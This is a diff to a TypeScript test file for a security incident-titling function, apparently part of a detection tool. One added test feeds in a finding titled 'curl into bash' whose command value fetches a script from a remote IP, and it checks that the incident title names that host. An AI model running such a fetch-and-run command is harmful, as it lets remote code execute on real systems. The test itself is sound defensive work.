@@ -65,6 +65,19 @@ describe('the title of an incident', () => {
   it('of one finding is what the finding says, with its host', () => {
     expect(first([shell(0, 11)])?.title).toBe('Shell in container shop on web01');
   });
+  it('leaves out a far side that nobody saw, and takes one out of a command', () => {
+    const fetched = (value: string): Finding => ({
+      ...shell(1, 12),
+      id: 'f-fetch',
+      title: 'curl into bash',
+      attack: ['T1105'],
+      reasons: [{ what: 'command', value }],
+    });
+    expect(first([shell(0, 11), fetched('./get.sh')])?.title).toBe('Command shell on web01, implant fetching tools');
+    expect(first([shell(0, 11), fetched('curl http://203.0.113.66/a.sh')])?.title).toBe(
+      'Command shell on web01, implant fetching tools from 203.0.113.66',
+    );
+  });
   it('counts the hosts that it does not name', () => {
     const beacons = ['a1', 'a2', 'a3'].map((host) =>
       finding({
